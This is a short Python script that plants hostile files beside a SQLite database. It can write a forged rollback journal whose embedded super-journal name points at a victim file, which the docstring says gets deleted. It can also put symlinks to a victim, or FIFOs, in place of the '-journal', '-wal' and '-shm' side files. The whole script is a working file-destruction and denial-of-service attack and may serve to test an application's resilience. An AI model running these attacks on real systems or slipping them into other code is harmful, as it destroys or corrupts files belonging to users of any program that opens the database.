# SPDX-License-Identifier: GPL-3.0-or-later
"""beside.py SESSION VICTIM WHAT: puts beside a session what SQLite looks at when it opens the file, as
who means harm to another file does. Without arguments: lists what there is.
"""
import os
import struct
import sys

MAGIC = bytes.fromhex('d9d505f920a163d7')


def journal(session, victim):
    """One with nothing to play back. The file whose name it ends with is deleted after that."""
    with open(session, 'rb') as file:
        head = file.read(100)
    page = struct.unpack('>H', head[16:18])[0]
    name = os.path.abspath(victim).encode()
    begin = MAGIC + struct.pack('>5I', 0, 1, os.path.getsize(session) // page, 512, page)
    end = struct.pack('>I', (1 << 30) // page + 1) + name
    end += struct.pack('>II', len(name), sum(name)) + MAGIC
    with open(f'{session}-journal', 'wb') as file:
        file.write(begin.ljust(512, b'\0') + end)


def link(ending):
    return lambda session, victim: os.symlink(os.path.abspath(victim), session + ending)


def fifo(ending):
    return lambda session, victim: os.mkfifo(session + ending)


HARM = {'a journal that names another file': journal}
for ending in '-journal', '-wal', '-shm':
    HARM[f'a link as its {ending}'] = link(ending)
    HARM[f'a FIFO as its {ending}'] = fifo(ending)

if len(sys.argv) < 2:
    print(*HARM, sep='\n')
else:
    HARM[sys.argv[3]](*sys.argv[1:3])
